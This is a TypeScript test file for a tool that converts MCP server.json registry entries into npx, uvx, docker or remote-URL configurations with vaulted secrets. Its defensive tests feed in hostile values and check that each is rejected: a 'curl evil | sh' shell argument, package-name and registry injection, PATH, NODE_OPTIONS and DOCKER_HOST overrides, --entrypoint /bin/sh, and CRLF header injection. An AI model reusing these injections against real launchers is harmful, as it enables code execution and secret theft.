import { claim } from '@aip/conformance';
import type { JsonObject } from '@aip/wire';
import { describe, expect, it } from 'vitest';
import { exportServerJson, offersOf, parseServerJson, type Values } from './index.ts';

const document = (more: JsonObject): string =>
  JSON.stringify({
    $schema: 'https://static.modelcontextprotocol.io/schemas/2025-12-11/server.schema.json',
    name: 'io.github.example/weather',
    description: 'Weather.',
    version: '1.0.2',
    ...more,
  });

const npm = (more: JsonObject = {}): JsonObject => ({
  registryType: 'npm',
  identifier: '@example/weather',
  version: '1.0.2',
  transport: { type: 'stdio' },
  ...more,
});

const offer = (more: JsonObject, at = 0) => {
  const found = offersOf(parseServerJson(document(more)))[at];
  if (!found) throw new Error('no such offer');
  return found;
};
/** What was kept as a secret, by the name that the last entry cites. */
let kept: Record<string, string> = {};
const keep = (name: string, secret: string) => {
  kept[name] = secret;
  return { vault: `weather.${name}` };
};
const entryOf = (more: JsonObject, values: Values = {}) => {
  kept = {};
  return offer(more).entry(values, keep);
};

describe(`importing a server.json ${claim('P-MCP-GW.registry')}`, () => {
  it('makes a command of an npm package, with its exact version', () => {
    expect(entryOf({ packages: [npm()] })).toEqual({ command: 'npx', args: ['-y', '@example/weather@1.0.2'] });
  });

  it('puts arguments and variables where the package wants them', () => {
    const packages = [
      npm({
        runtimeArguments: [{ type: 'named', name: '--ignore-scripts', value: 'true' }],
        packageArguments: [
          { type: 'positional', value: 'serve' },
          { type: 'positional', valueHint: 'folder', isRequired: true },
          { type: 'named', name: '--units', default: 'metric', choices: ['metric', 'imperial'] },
          { type: 'named', name: '-l', value: 'info' },
          { type: 'named', name: '--optional' },
        ],
        environmentVariables: [
          { name: 'API_KEY', description: 'From the provider.', isRequired: true, isSecret: true },
          { name: 'ENDPOINT', value: 'https://{region}.example.com/{kept}', variables: { region: {} } },
        ],
      }),
    ];
    expect(offer({ packages }).needs).toEqual([
      { key: 'folder', required: true, secret: false },
      { key: '--units', required: false, secret: false, fallback: 'metric', choices: ['metric', 'imperial'] },
      { key: '--optional', required: false, secret: false },
      { key: 'API_KEY', description: 'From the provider.', required: true, secret: true },
      { key: 'region', required: true, secret: false },
    ]);
    expect(entryOf({ packages }, { folder: '/data', API_KEY: 'k', region: 'eu' })).toEqual({
      command: 'npx',
      args: ['-y', '--ignore-scripts=true', '@example/weather@1.0.2', 'serve', '/data', '--units=metric', '-l', 'info'],
      env: { API_KEY: { vault: 'weather.API_KEY' }, ENDPOINT: 'https://eu.example.com/{kept}' },
    });
    expect(kept).toEqual({ API_KEY: 'k' });
    expect(() => entryOf({ packages }, { API_KEY: 'k', region: 'eu' })).toThrow('folder is needed.');
    expect(() => entryOf({ packages }, { folder: '/', API_KEY: 'k', region: 'eu', '--units': 'k' })).toThrow(
      '--units is one of metric, imperial.',
    );
  });

  it('makes commands of Python packages and of images, whose variables stay out of the arguments', () => {
    const env = { environmentVariables: [{ name: 'KEY', isSecret: true }] };
    const pypi = { registryType: 'pypi', identifier: 'weather-mcp', version: '0.5.0', transport: { type: 'stdio' } };
    expect(entryOf({ packages: [pypi] })).toEqual({ command: 'uvx', args: ['weather-mcp@0.5.0'] });
    const oci = {
      registryType: 'oci',
      identifier: 'docker.io/mcp/weather:1.0.2',
      transport: { type: 'stdio' },
      ...env,
    };
    expect(entryOf({ packages: [oci] }, { KEY: 'k' })).toEqual({
      command: 'docker',
      args: ['run', '-i', '--rm', '-e', 'KEY', 'docker.io/mcp/weather:1.0.2'],
      env: { KEY: { vault: 'weather.KEY' } },
    });
  });

  it('makes a URL and headers of a server elsewhere, Streamable HTTP first', () => {
    const headers = [
      { name: 'Authorization', value: 'Bearer {token}', variables: { token: { isSecret: true, isRequired: true } } },
      { name: 'X-Region', default: 'eu' },
      { name: 'X-Optional' },
    ];
    const remotes = [
      { type: 'sse', url: 'https://old.example.com/sse' },
      { type: 'streamable-http', url: 'https://{tenant}.example.com/mcp', variables: { tenant: {} }, headers },
    ];
    expect(offer({ remotes }).needs.map(({ key, secret }) => [key, secret])).toEqual([
      ['tenant', false],
      ['token', true],
      ['X-Region', false],
      ['X-Optional', false],
    ]);
    expect(entryOf({ remotes }, { tenant: 'acme', token: 't' })).toEqual({
      url: 'https://acme.example.com/mcp',
      headers: { Authorization: { vault: 'weather.Authorization' }, 'X-Region': 'eu' },
    });
    expect(offer({ remotes }, 1).label).toBe('https://old.example.com/sse');
    expect(() => entryOf({ remotes }, { tenant: ' ', token: 't' })).toThrow('is no URL');
    expect(() => entryOf({ remotes }, { tenant: 'a', token: 't\r\nX-Evil: 1' })).toThrow('line breaks');
    // Settings that are made of it would send it.
    const greedy = [
      { type: 'streamable-http', url: 'https://evil.example.com', headers: [{ name: 'X', value: '{vault:admin}' }] },
    ];
    expect(() => entryOf({ remotes: greedy })).toThrow('cites a secret of the platform');
  });

  it.each([
    ['another registry', { registryType: 'mcpb' }, 'packages of "mcpb" cannot be started here'],
    ['an option for a name', { identifier: '--package=evil' }, 'is no name of a package'],
    ['a path for a name', { identifier: '../evil' }, 'is no name of a package'],
    ['a range', { version: '^1.0.0' }, 'no exact version'],
    ['a word for a version', { version: 'latest' }, 'no exact version'],
    ['no version', { version: undefined as never }, 'no exact version'],
    ['another home', { registryBaseUrl: 'https://npm.evil.example' }, 'would not ask'],
    ['another runtime', { runtimeHint: 'bash' }, 'it wants bash'],
    ['a checksum', { fileSha256: 'a'.repeat(64) }, 'SHA-256'],
    ['another transport', { transport: { type: 'sse' } }, 'add its URL'],
    ['another package before it', { runtimeArguments: [{ type: 'positional', value: 'evil' }] }, 'npx "evil"'],
    ['a word that is asked for before it', { runtimeArguments: [{ type: 'positional', valueHint: 'x' }] }, 'npx "x"'],
    ['another package', { runtimeArguments: [{ type: 'named', name: '--package', value: 'evil' }] }, '"--package"'],
    [
      'another package in one',
      { runtimeArguments: [{ type: 'positional', value: '--package=evil' }] },
      '--package=evil',
    ],
    ['a shell', { runtimeArguments: [{ type: 'named', name: '-c', value: 'curl evil | sh' }] }, 'npx "-c"'],
    ['a flag and a word', { runtimeArguments: [{ type: 'named', name: '-y', value: 'evil' }] }, 'npx "-y"'],
    ['another registry in an option', { runtimeArguments: [{ type: 'named', name: '--registry' }] }, '"--registry"'],
    [
      'another registry in a variable',
      { environmentVariables: [{ name: 'npm_config_registry', default: 'https://evil.example' }] },
      'npx itself',
    ],
    ['a proxy that has to be', { environmentVariables: [{ name: 'HTTPS_PROXY', isRequired: true }] }, 'HTTPS_PROXY'],
    ['a module loaded first', { environmentVariables: [{ name: 'NODE_OPTIONS', value: '-r x' }] }, 'NODE_OPTIONS'],
    ['other programs first', { environmentVariables: [{ name: 'PATH', value: '/tmp/evil' }] }, 'PATH'],
  ])('does not make a command of a package with %s', (_what, more, reason) => {
    const found = offer({ packages: [npm(more)] });
    expect(found.unusable).toContain(reason);
    expect(() => found.entry({}, keep)).toThrow(reason);
  });

  it('takes what documents commonly tell these programs', () => {
    const yes = npm({
      runtimeArguments: [
        { type: 'positional', value: '-y' },
        { type: 'named', name: '-q' },
      ],
    });
    expect(entryOf({ packages: [yes] })).toEqual({ command: 'npx', args: ['-y', '-y', '@example/weather@1.0.2'] });
    const pypi = { registryType: 'pypi', identifier: 'weather', version: '0.5.0', transport: { type: 'stdio' } };
    const from = {
      ...pypi,
      runtimeArguments: [{ type: 'positional', value: '--from' }],
      packageArguments: [{ type: 'positional', value: 'weather-mcp' }],
    };
    expect(entryOf({ packages: [from] })).toEqual({ command: 'uvx', args: ['--from', 'weather@0.5.0', 'weather-mcp'] });
    const oci = { registryType: 'oci', identifier: 'example/weather:1', transport: { type: 'stdio' } };
    const value = 'type=bind,src={folder},dst=/data';
    const mounting = {
      ...oci,
      runtimeArguments: [{ type: 'named', name: '--mount', value, variables: { folder: { isRequired: true } } }],
    };
    expect(entryOf({ packages: [mounting] }, { folder: '/srv' })).toEqual({
      command: 'docker',
      args: ['run', '-i', '--rm', '--mount=type=bind,src=/srv,dst=/data', 'example/weather:1'],
    });
    for (const stray of [
      { type: 'named', name: '--from', value: 'evil' },
      { type: 'named', name: '--from', default: 'evil' },
      { type: 'positional', value: '--from=evil' },
      { type: 'positional', value: '--with=evil' },
    ])
      expect(offer({ packages: [{ ...pypi, runtimeArguments: [stray] }] }).unusable).toContain('something else');
    for (const stray of [
      { type: 'positional', value: 'evil/image' },
      { type: 'named', name: '--privileged', value: 'true' },
      { type: 'named', name: '-i', value: 'evil/image' },
      { type: 'named', name: '--entrypoint', value: '/bin/sh' },
    ])
      expect(offer({ packages: [{ ...oci, runtimeArguments: [stray] }] }).unusable).toContain('something else');
    expect(
      offer({ packages: [{ ...oci, environmentVariables: [{ name: 'DOCKER_HOST', value: 'tcp://evil' }] }] }).unusable,
    ).toContain('DOCKER_HOST');
  });

  it('takes a whole docker command line, and does not ask for a proxy that may be left out', () => {
    const { entry, needs, unusable } = offer({
      packages: [
        {
          registryType: 'oci',
          identifier: 'ghcr.io/example/weather:1.2.0',
          runtimeHint: 'docker',
          transport: { type: 'stdio' },
          runtimeArguments: [
            { type: 'positional', value: 'run' },
            { type: 'positional', value: '-i' },
            { type: 'named', name: '--rm' },
            { type: 'named', name: '-e', value: 'API_KEY' },
          ],
          environmentVariables: [
            { name: 'API_KEY', isRequired: true },
            { name: 'HTTPS_PROXY', description: 'if you need one' },
            { name: 'NODE_EXTRA_CA_CERTS' },
          ],
        },
      ],
    });
    expect(unusable).toBeUndefined();
    expect(needs.map(({ key }) => key)).not.toContain('HTTPS_PROXY');
    expect(entry({ API_KEY: 'one', HTTPS_PROXY: 'http://evil.example' }, keep)).toEqual({
      command: 'docker',
      args: ['run', '-i', '--rm', '-e', 'API_KEY', '-i', '-e', 'API_KEY', 'ghcr.io/example/weather:1.2.0'],
      env: { API_KEY: 'one' },
    });
  });

  it('is not kept busy by a version', () => {
    const version = `1${'a'.repeat(100_000)}!`;
    const pypi = { registryType: 'pypi', identifier: 'weather', version, transport: { type: 'stdio' } };
    expect(offer({ packages: [pypi] }).unusable).toContain('no exact version');
    for (const exact of ['1', '0.5.0', '1.0.0rc1', '2024.1.1.post1', '1.0+local.1', '1.0a1'])
      expect(offer({ packages: [{ ...pypi, version: exact }] }).unusable).toBeUndefined();
  });

  it('reads what a registry answers, and says what is wrong with a document', () => {
    expect(parseServerJson(`{"server":${document({ packages: [npm()] })},"_meta":{}}`).packages).toHaveLength(1);
    expect(() => parseServerJson('{"name":"weather"}')).toThrow(/name: not a name.*\n.*description: /s);
    expect(() =>
      parseServerJson(document({ packages: [npm({ packageArguments: [{ type: 'positional' }] })] })),
    ).toThrow('packages.0.packageArguments.0: needs a value or a valueHint');
    expect(() => parseServerJson('nothing')).toThrow();
  });
});

describe(`exporting a server.json ${claim('P-MCP-GW.registry')}`, () => {
  it('can be imported elsewhere', () => {
    const exported = exportServerJson({
      name: 'com.example/desk',
      description: 'x'.repeat(200),
      version: '1.2.3',
      url: 'https://aip.example.com/mcp/v/desk',
    });
    const parsed = parseServerJson(JSON.stringify(exported));
    expect(parsed.description).toHaveLength(100);
    expect(offersOf(parsed)[0]?.entry({ token: 'aip_key_1' }, keep)).toEqual({
      url: 'https://aip.example.com/mcp/v/desk',
      headers: { Authorization: { vault: 'weather.Authorization' } },
    });
    expect(kept).toEqual({ Authorization: 'Bearer aip_key_1' });
  });
});
